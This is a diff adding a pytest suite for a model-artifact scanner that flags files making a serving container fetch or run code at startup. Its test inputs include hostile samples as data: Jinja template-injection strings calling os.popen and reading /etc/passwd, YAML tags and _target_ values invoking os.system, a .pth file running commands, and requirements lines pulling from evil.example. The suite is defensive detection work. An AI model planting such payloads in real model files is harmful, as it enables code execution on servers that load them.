@@ -1,0 +1,169 @@
+"""What makes a server fetch or run something when it starts, by files that it acts on."""
+
+from __future__ import annotations
+
+import gzip
+import json
+
+import pytest
+
+from signoff.artifact import scan
+from signoff.artifact.inspection import inspect
+from signoff.artifact.requirements import Requirements
+from tests.support.archives import member, tar
+
+
+def found(name: str, text: str | bytes, *fetched: str) -> list[tuple[str, str]]:
+    """Return rule and severity of all that is found in an archive with one file."""
+    data = text if isinstance(text, bytes) else text.encode()
+    inspection = inspect([gzip.compress(tar(member(name, data)))], Requirements(fetched=fetched), scan.scan)
+    return [(finding.rule, finding.severity) for finding in inspection.findings]
+
+
+FETCHED = [("fetched-at-start", "error")]
+HASH = "--hash=sha256:" + "0" * 64
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url http://evil.example/simple",
+        "-i http://evil.example/simple",
+        "--extra-index-url=https://evil.example/simple",
+        "--find-links ./wheels",
+        "--trusted-host evil.example",
+        "-e .",
+        "-r https://evil.example/more.txt",
+        "git+https://github.com/acme/x@main",
+        "https://evil.example/x-1.0-py3-none-any.whl",
+        "x @ https://evil.example/x.zip",
+        "x@https://evil.example/x.zip",
+        "./x-1.0-py3-none-any.whl",
+        "x-1.0.tar.gz",
+        "/opt/ml/model/x",
+        "\\\n  git+ssh://git@example.com/x",
+        "ssh://git@example.com/x ; python_version > '3'",
+    ],
+)
+def test_a_requirement_from_elsewhere_than_the_index_is_refused(line: str) -> None:
+    text = f"# what it needs\nnumpy==2.1.0 {HASH}\n{line}\n"
+    assert found("code/requirements.txt", text) == FETCHED
+    assert found("requirements.txt", text.replace("\n", "\r\n")) == FETCHED
+
+
+def test_a_requirement_that_the_policy_lists_is_a_warning() -> None:
+    text = f"git+https://git.example.com/acme/x@v1\nnumpy==2.1.0 {HASH}\n"
+    assert found("code/requirements.txt", text, "git+https://git.example.com/*") == [("fetched-at-start", "warning")]
+    assert found("code/requirements.txt", text, "git+https://other.example.com/*") == FETCHED
+
+
+def test_requirements_that_may_be_other_packages_tomorrow_are_a_warning() -> None:
+    assert found("code/requirements.txt", f"numpy==2.1.0 {HASH}\n") == []
+    assert found("code/requirements.txt", "numpy==2.1.0\n") == [("unhashed-requirement", "warning")]
+    for loose in ("numpy", "numpy>=2", "numpy==2.*", "numpy[all]", "numpy==1,<2", "numpy~=2.1 ; python_version > '3'"):
+        assert found("code/requirements.txt", loose) == [("unpinned-requirement", "warning")], loose
+
+
+def test_the_environments_of_mlflow_are_looked_at_like_requirements() -> None:
+    conda = "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24\n- pip:\n  - mlflow==2.9.2\n"
+    assert ("unpinned-requirement", "warning") in found("conda.yaml", conda)
+    assert found("conda.yaml", conda + "  - git+https://evil.example/x\n")[0] == FETCHED[0]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "option.model_id=acme/model",
+        "option.model_id = s3://bucket/model/",
+        "option.s3url=s3://bucket/model/",
+        "option.entryPoint: https://evil.example/x.py",
+    ],
+)
+def test_what_djl_serving_would_fetch_is_refused(line: str) -> None:
+    assert found("serving.properties", f"engine=Python\n# {line}\n") == []
+    assert found("serving.properties", f"engine=Python\n{line}\n") == FETCHED
+    assert found("serving.properties", "option.model_id=/opt/ml/model\noption.dtype=fp16\n") == []
+
+
+def test_code_of_other_repositories_is_refused() -> None:
+    auto_map = {"auto_map": {"AutoModel": "evil/repo--modeling.Model", "AutoConfig": "configuration.Config"}}
+    assert found("config.json", json.dumps(auto_map)) == [("remote-code", "error")]
+    assert found("tokenizer_config.json", json.dumps({"a": [auto_map]})) == [("remote-code", "error")]
+    assert found("config.json", json.dumps({"auto_map": {"AutoModel": "modeling.Model"}})) == []
+    assert found("serving.properties", "option.trust_remote_code=true\n") == [("remote-code", "error")]
+
+
+def test_the_model_that_an_adapter_names_is_fetched() -> None:
+    assert found("adapter_config.json", json.dumps({"base_model_name_or_path": "acme/base"})) == FETCHED
+    assert found("adapter_config.json", json.dumps({"base_model_name_or_path": "/opt/ml/model/base"})) == []
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "{{ messages.__class__.__mro__ }}",
+        "{{ ''|attr('__cl' ~ 'ass__') }}",
+        "{{ x['\\x5f\\x5fclass'] }}",
+        "{{ cycler.__init__.__globals__.os.popen('id') }}",
+        "{% include '/etc/passwd' %}",
+        "{%- import 'x' as y -%}",
+    ],
+)
+def test_a_chat_template_that_reaches_for_python_is_refused(template: str) -> None:
+    expected = [("unsafe-template", "error")]
+    assert found("chat_template.jinja", template) == expected
+    assert found("tokenizer_config.json", json.dumps({"chat_template": template})) == expected
+    named = [{"name": "default", "template": template}]
+    assert found("tokenizer_config.json", json.dumps({"chat_template": named})) == expected
+
+
+def test_an_ordinary_chat_template_passes() -> None:
+    template = (
+        "{{ bos_token }}{% for message in messages %}{% if message['role'] == 'user' %}"
+        "{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message.role == 'assistant' %}"
+        "{{ message.content | trim }}{% endif %}{% endfor %}"
+    )
+    assert found("chat_template.jinja", template) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a: !!python/object/apply:os.system ['id']\n",
+        "a: !<tag:yaml.org,2002:python/name:os.system> ''\n",
+        "%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.system\n",
+        "%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/name:os.system\n",
+    ],
+)
+def test_yaml_that_calls_python_is_refused(text: str) -> None:
+    assert found("hparams.yaml", text) == [("unsafe-yaml", "error")]
+    assert found("MLmodel", text) == [("unsafe-yaml", "error")]
+
+
+def test_what_is_instantiated_by_name_is_told() -> None:
+    assert found("model.yaml", "model:\n  _target_: os.system\n  command: id\n") == [("unsafe-target", "error")]
+    assert found("model.yaml", "model:\n  _target_: nemo.collections.asr.Model\n") == [("named-target", "warning")]
+    assert found("model_config.json", json.dumps({"m": {"_target_": "subprocess.run"}})) == [("unsafe-target", "error")]
+
+
+def test_an_mlflow_model_with_a_loader_of_its_own_is_told() -> None:
+    own = "flavors:\n  python_function:\n    loader_module: {}\n    python_version: 3.11.7\n"
+    assert found("MLmodel", own.format("mlflow.sklearn")) == []
+    assert found("MLmodel", own.format("acme.loader")) == [("custom-loader", "warning")]
+
+
+@pytest.mark.parametrize("name", ["code/sitecustomize.py", "code/usercustomize.py"])
+def test_a_module_that_python_runs_at_every_start_is_refused(name: str) -> None:
+    assert ("runs-at-start", "error") in found(name, "import os\n")
+
+
+def test_a_path_file_of_python_is_no_model() -> None:
+    assert found("code/x.pth", "import os; os.system('id')\n") == [("not-what-it-is-called", "error")]
+
+
+TOO_LARGE = b"# " + b"x" * (5 << 20)
+
+
+@pytest.mark.parametrize("content", ["numpy\n".encode("utf-16"), b"numpy\0evil\n", b"\xff\xfe", TOO_LARGE])
+def test_settings_that_readers_may_read_differently_are_refused(content: bytes) -> None:
+    assert ("unreadable-settings", "error") in found("code/requirements.txt", content)
